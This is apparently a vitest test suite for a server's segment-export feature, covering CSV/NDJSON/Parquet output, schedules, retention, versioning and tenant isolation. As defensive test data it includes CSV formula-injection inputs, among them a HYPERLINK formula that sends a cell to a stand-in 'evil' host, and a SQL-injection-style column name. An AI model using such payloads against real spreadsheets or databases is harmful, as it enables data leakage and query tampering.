import { readdir } from 'node:fs/promises';
import { join } from 'node:path';
import { DatabaseSync } from '@photostructure/sqlite';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { statePath } from '../data-directory.js';
import { parquetRows } from '../import/files/parquet.js';
import { TestServer, until } from '../testing/test-server.js';

const hour = 3_600_000;
const visited = { type: 'event', event: 'Visited', count: { atLeast: 1 } };

const recordsOf = (csv: string): string[][] => parse(csv);

describe('exports of members', () => {
  let test: TestServer;
  let segment: { id: string };
  let now = Date.parse('2026-03-10T07:30:00Z');

  beforeAll(async () => {
    test = await TestServer.start({ clock: () => now });
    await test.call('PATCH', '/v1/site', { timeZone: 'Europe/Berlin' });
    segment = await test.segment('visitors', visited);
    const traits = {
      email: 'Ana@Example.com',
      'home.city': 'Bonn, "am Rhein"',
      age: 31.5,
      vip: true,
      tags: ['A', 'b'],
    };
    await test.send({ type: 'identify', userId: 'ana', traits });
    await test.send({ type: 'track', userId: 'ana', event: 'Visited' });
    now += hour;
    await test.send({ type: 'track', anonymousId: 'a-guest', event: 'Visited' });
    await test.send({ type: 'track', userId: 'somebody-else', event: 'Other' });
  });
  afterAll(() => test.stop());

  const traits = ['email', 'home.city', 'age', 'vip', 'tags'];
  const ended = async (id: string) => {
    await until(async () => (await test.get(`/v1/export-runs/${id}`)).body.state !== 'running');
    return (await test.get(`/v1/export-runs/${id}`)).body;
  };
  const make = async (body: object, id = segment.id) => {
    const asked = await test.post(`/v1/segments/${id}/exports`, body);
    expect(asked.status, asked.text).toBe(202);
    return ended(asked.body.id);
  };
  const file = (id: string) => fetch(`${test.url}/v1/export-runs/${id}/file`, { headers: test.auth() });

  it('are CSV files of the members of one instant, with the traits that are asked for', async () => {
    const run = await make({ format: 'csv', traits });
    expect(run).toMatchObject({ state: 'done', done: 2, total: 2, asOf: new Date(now).toISOString(), error: null });
    const answer = await file(run.id);
    expect(answer.headers.get('content-disposition')).toBe('attachment; filename="visitors-2026-03-10.csv"');
    const text = await answer.text();
    expect(answer.headers.get('content-length')).toBe(String(Buffer.byteLength(text)));
    const [header, ana, guest, end] = text.split('\n');
    expect(header).toBe('"id","userId","since","firstSeen","lastSeen","email","home.city","age","vip","tags"');
    expect(ana?.replace(/^"\d+"/, '"1"')).toBe(
      '"1","ana","2026-03-10T07:30:00.000Z","2026-03-10T07:30:00.000Z","2026-03-10T07:30:00.000Z",' +
        '"Ana@Example.com","Bonn, ""am Rhein""","31.5","true","[""A"",""b""]"',
    );
    expect(guest).toMatch(/^"\d+",,"2026-03-10T08:30:00.000Z",.*,,,,,$/);
    expect(end).toBe('');
  });

  it('are NDJSON and Parquet files of the same', async () => {
    const lines = await (await file((await make({ format: 'ndjson', traits: ['email'] })).id)).text();
    const rows = lines
      .trim()
      .split('\n')
      .map((line) => JSON.parse(line));
    expect(rows).toMatchObject([
      { userId: 'ana', since: '2026-03-10T07:30:00.000Z', email: 'Ana@Example.com' },
      { userId: null, since: '2026-03-10T08:30:00.000Z', email: null },
    ]);
    const run = await make({ format: 'parquet', traits: ['email'] });
    const bytes = Buffer.from(await (await file(run.id)).arrayBuffer());
    expect([bytes.subarray(0, 4).toString(), bytes.length]).toEqual(['PAR1', run.bytes]);
    const found: unknown[] = [];
    for await (const row of parquetRows(join(test.directory, 'exports', '1', `${run.id}.parquet`))) found.push(row);
    expect(found).toHaveLength(2);
    expect(JSON.stringify(found)).toContain('Ana@Example.com');
  });

  it('have no formula in CSV, whoever sent it, and numbers as they are', async () => {
    const texts = [
      '=HYPERLINK("http://evil/?"&A2,"open")',
      '+49 30',
      '-1',
      '@SUM(A1)',
      '\t=1',
      '\r=1',
      "'=1",
      "it's",
      'a=b',
    ];
    for (const [index, text] of texts.entries()) {
      const userId = `${text}${index}`;
      await test.send({ type: 'identify', userId, traits: { text, score: -index - 1 } });
      await test.send({ type: 'track', userId, event: 'Tried' });
    }
    const trying = await test.segment('trying', { ...visited, event: 'Tried' });
    const asked = { traits: ['text', 'score'] };
    const rowsOf = (text: string) => recordsOf(text).map(([, userId, , , , value, score]) => [userId, value, score]);
    const csv = await (await file((await make({ ...asked, format: 'csv' }, trying.id)).id)).text();
    const guarded = texts.map((text) => (['it', 'a='].includes(text.slice(0, 2)) ? text : `'${text}`));
    expect(rowsOf(csv)).toEqual([
      ['userId', 'text', 'score'],
      ...guarded.map((text, index) => [`${text}${index}`, text, String(-index - 1)]),
    ]);
    const lines = await (await file((await make({ ...asked, format: 'ndjson' }, trying.id)).id)).text();
    const raw = lines
      .trim()
      .split('\n')
      .map((line) => JSON.parse(line));
    expect(raw.map((row) => [row.userId, row.text])).toEqual(texts.map((text, index) => [`${text}${index}`, text]));
  });

  it('have a column of any trait that there can be, and call it as it is', async () => {
    const names = [
      'Monthly Charges ($)',
      'back`tick',
      'back\\slash',
      'ends in \\',
      `quotes ' and "`,
      '` FROM system.tables --',
      '{p0:String}',
      'a,b;c',
      'line\nbreak',
      'house.number',
      'subject.userId',
      'subject.trait_1',
      'member.since',
      'trait_0',
      'profile',
      '=1+1',
      'größe 尺寸 😀',
      `long ${'x'.repeat(495)}`,
    ];
    const traits = Object.fromEntries(names.map((name, index) => [name, `value ${index}`]));
    await test.send({ type: 'identify', userId: 'odd', traits }, { type: 'track', userId: 'odd', event: 'Odd' });
    const odd = await test.segment('odd', { ...visited, event: 'Odd' });
    const asked = { traits: names };
    const csv = recordsOf(await (await file((await make({ ...asked, format: 'csv' }, odd.id)).id)).text());
    expect(csv[0]?.slice(5)).toEqual(names.map((name) => (name === '=1+1' ? "'=1+1" : name)));
    expect(csv[1]?.slice(5)).toEqual(Object.values(traits));
    expect(csv[1]?.[1]).toBe('odd');
    const line = JSON.parse(await (await file((await make({ ...asked, format: 'ndjson' }, odd.id)).id)).text());
    expect(line).toMatchObject({ ...traits, userId: 'odd' });
    const { id } = await make({ ...asked, format: 'parquet' }, odd.id);
    for await (const row of parquetRows(join(test.directory, 'exports', '1', `${id}.parquet`))) {
      expect(row.values).toMatchObject({ ...traits, userId: 'odd' });
    }
  });

  it('are guarded in CSV where they are of accounts', async () => {
    await test.call('PUT', `/v1/groups/account/${encodeURIComponent('=1+1')}`, { traits: { plan: 'odd', name: '=2' } });
    const odd = { type: 'property', property: 'account.plan', operator: 'equals', value: 'odd' };
    const accounts = await test.segment('odd-accounts', odd, { subject: 'account' });
    const csv = await (await file((await make({ format: 'csv', traits: ['name'] }, accounts.id)).id)).text();
    expect(recordsOf(csv)).toMatchObject([
      ['id', 'parent', 'since', 'name'],
      ["'=1+1", '', {}, "'=2"],
    ]);
  });

  it('have the names of the columns where nobody is in', async () => {
    const empty = await test.segment('nobody', { ...visited, event: 'Never' });
    const run = await make({ format: 'csv' }, empty.id);
    expect(run).toMatchObject({ state: 'done', done: 0, total: 0 });
    expect(await (await file(run.id)).text()).toBe('"id","userId","since","firstSeen","lastSeen"\n');
  });

  it('are of accounts too', async () => {
    await test.call('PUT', '/v1/groups/account/acme', { traits: { name: 'Acme', plan: 'gold' } });
    const gold = { type: 'property', property: 'account.plan', operator: 'equals', value: 'gold' };
    const accounts = await test.segment('gold-accounts', gold, { subject: 'account' });
    const run = await make({ format: 'ndjson', traits: ['name'] }, accounts.id);
    expect(JSON.parse(await (await file(run.id)).text())).toMatchObject({ id: 'acme', parent: null, name: 'Acme' });
  });

  it('come again each day at a time of the site’s zone, as many files as are kept, and once for what was missed', async () => {
    const input = { segment: segment.id, format: 'csv', schedule: { daily: '06:00' }, keep: 2 };
    const { body: plan } = await test.post('/v1/exports', input);
    expect(plan.nextAt).toBe('2026-03-11T05:00:00.000Z');
    const runs = async () => (await test.get(`/v1/export-runs?export=${plan.id}`)).body.items;
    const nextAt = async () => (await test.get('/v1/exports')).body.items[0].nextAt;
    now = Date.parse('2026-03-11T05:00:00Z') - 1;
    await test.server.exports.work();
    expect(await runs()).toEqual([]);
    for (const day of ['2026-03-11', '2026-03-12', '2026-03-13']) {
      now = Date.parse(`${day}T05:00:00Z`);
      await test.server.exports.work();
    }
    expect((await runs()).map((run: { asOf: string }) => run.asOf)).toEqual([
      '2026-03-13T05:00:00.000Z',
      '2026-03-12T05:00:00.000Z',
    ]);
    const folder = join(test.directory, 'exports', '1');
    expect((await readdir(folder)).filter((name) => name.startsWith(plan.id))).toHaveLength(2);
    // Down for weeks, over the day on which the clocks go forward.
    now = Date.parse('2026-04-02T12:00:00Z');
    await test.restart();
    await until(async () => (await runs())[0]?.asOf === '2026-04-02T12:00:00.000Z');
    await until(async () => (await runs()).length === 2);
    expect(await nextAt()).toBe('2026-04-03T04:00:00.000Z');
    expect((await test.call('DELETE', `/v1/exports/${plan.id}`)).status).toBe(204);
    expect((await test.get('/v1/exports')).body.items).toEqual([]);
  });

  it('come at their time of day in a new time zone of the site, and after an interval as they did', async () => {
    const planned = async (schedule: object) =>
      (await test.post('/v1/exports', { segment: segment.id, schedule })).body;
    const daily = await planned({ daily: '06:00' });
    const often = await planned({ every: { amount: 5, unit: 'hours' } });
    const nextAt = async ({ id }: { id: string }) => (await test.get(`/v1/exports/${id}`)).body.nextAt;
    const { id, timeZone } = (await test.get('/v1/site')).body;
    await test.call('PATCH', '/v1/site', { timeZone: 'Asia/Tokyo' });
    expect(await nextAt(daily)).toMatch(/T21:00:00.000Z$/);
    expect(await nextAt(often)).toBe(often.nextAt);
    // As if the server had been killed before it had planned anew.
    await test.restart(() => {
      const store = new DatabaseSync(`${statePath(test.directory)}/state.sqlite`);
      store.prepare('UPDATE sites SET time_zone = ? WHERE slug = ?').run(timeZone, id);
      store.close();
    });
    expect(await nextAt(daily)).toBe(daily.nextAt);
    expect(await nextAt(often)).toBe(often.nextAt);
  });

  it('are made at once where somebody asks, count among those kept, and are found when their export is gone', async () => {
    const input = { segment: segment.id, format: 'ndjson', traits: ['email'], schedule: { daily: '06:00' }, keep: 2 };
    const { body: plan } = await test.post('/v1/exports', input);
    const once = await make({});
    for (let round = 0; round < 3; round += 1) {
      now += 1;
      const asked = await test.post(`/v1/exports/${plan.id}/runs`, {});
      expect([asked.status, asked.body.export, asked.body.format]).toEqual([202, plan.id, 'ndjson']);
      expect((await ended(asked.body.id)).state).toBe('done');
    }
    const ids = async (query: string) =>
      (await test.get(`/v1/export-runs?${query}`)).body.items.map(({ id }: { id: string }) => id);
    await until(async () => (await ids(`export=${plan.id}`)).length === 2);
    const kept = await ids(`export=${plan.id}`);
    expect(await file(kept[0]).then((answer) => answer.text())).toContain('"email":"Ana@Example.com"');
    expect((await test.get(`/v1/exports/${plan.id}`)).body.nextAt).toBe(plan.nextAt);
    expect(await ids('unplanned=true')).toContain(once.id);
    expect(await ids('unplanned=true')).not.toContain(kept[0]);
    await test.call('DELETE', `/v1/exports/${plan.id}`);
    expect(await ids('unplanned=true')).toEqual(expect.arrayContaining([once.id, ...kept]));
    expect((await test.post(`/v1/exports/${plan.id}/runs`, {})).body.code).toBe('unknown_export');
  });

  it('are changed by who has seen the latest version, and come by their new schedule', async () => {
    const made = await test.post('/v1/exports', { segment: segment.id, schedule: { daily: '06:00' } });
    expect(made.headers.get('etag')).toBe('"1"');
    const path = `/v1/exports/${made.body.id}`;
    const put = (body: object, match?: string) =>
      test.call('PUT', path, body, { ...test.auth(), ...(match === undefined ? {} : { 'if-match': match }) });
    const { body: read } = await test.get(path);
    expect((await put(read)).status).toBe(428);
    expect((await put({ ...read, kep: 3 }, '"1"')).body.errors).toMatchObject([{ path: 'kep', code: 'unknown_key' }]);
    const changed = await put({ ...read, keep: 3, schedule: { every: { amount: 2, unit: 'hours' } } }, '"1"');
    expect([changed.status, changed.headers.get('etag')]).toEqual([200, '"2"']);
    expect(changed.body).toMatchObject({ keep: 3, version: 2, createdAt: read.createdAt });
    expect(changed.body.nextAt).toBe(new Date(now + 2 * hour).toISOString());
    const late = await put({ ...read, keep: 5 }, '"1"');
    expect([late.status, late.body.code, late.headers.get('etag')]).toEqual([412, 'version_conflict', '"2"']);
    const renamed = (await put({ ...changed.body, format: 'ndjson' }, '*')).body;
    expect(renamed).toMatchObject({ format: 'ndjson', version: 3, nextAt: changed.body.nextAt });
    expect((await put({ ...read, segment: 'nothing' }, '*')).status).toBe(404);
    expect((await test.call('DELETE', path)).status).toBe(204);
    expect((await put(read, '*')).body.code).toBe('unknown_export');
  });

  it('go after seven days where they were asked for once, and at once where they are deleted', async () => {
    const [first, second] = [await make({}), await make({})];
    expect((await test.call('DELETE', `/v1/export-runs/${first.id}`)).status).toBe(204);
    expect((await file(first.id)).status).toBe(404);
    now += 7 * 24 * hour + 1;
    await test.server.exports.work();
    expect((await file(second.id)).status).toBe(404);
  });

  it('are refused by name for segments decided per request, and fail with a reason for those not in force', async () => {
    const onChrome = { type: 'property', property: 'request.browser', operator: 'equals', value: 'Chrome' };
    const { body } = await test.post('/v1/segments', { name: { en: 'On Chrome' }, criteria: onChrome });
    const planned = { segment: body.id, schedule: { every: { amount: 1, unit: 'hours' } } };
    for (const refused of [
      await test.post(`/v1/segments/${body.id}/exports`, {}),
      await test.post('/v1/exports', planned),
    ]) {
      expect([refused.status, refused.body.code]).toEqual([409, 'request_time_segment']);
      expect(refused.body.detail).toContain('“On Chrome”');
    }
    const { body: off } = await test.post('/v1/segments', { name: { en: 'Off' }, criteria: visited });
    const run = await make({}, off.id);
    expect(run).toMatchObject({
      state: 'failed',
      error: '“Off” is not in force: its members are not kept.',
      errorCode: 'not_in_force',
    });
    expect((await file(run.id)).status).toBe(409);
    const every = (amount: number) => ({
      ...planned,
      segment: segment.id,
      schedule: { every: { amount, unit: 'minutes' } },
    });
    expect((await test.post('/v1/exports', every(1))).status).toBe(400);
    expect((await test.post(`/v1/segments/${segment.id}/exports`, { traits: ['id'] })).body.code).toBe(
      'invalid_export',
    );
  });

  it('are another site’s for nobody', async () => {
    const run = await make({});
    const other = test.auth(await test.otherSite('other'));
    for (const path of [`/v1/export-runs/${run.id}`, `/v1/export-runs/${run.id}/file`]) {
      expect((await test.get(path, other)).status).toBe(404);
    }
    expect((await test.get('/v1/export-runs', other)).body.items).toEqual([]);
    expect((await test.post(`/v1/segments/${segment.id}/exports`, {}, other)).status).toBe(404);
  });
});
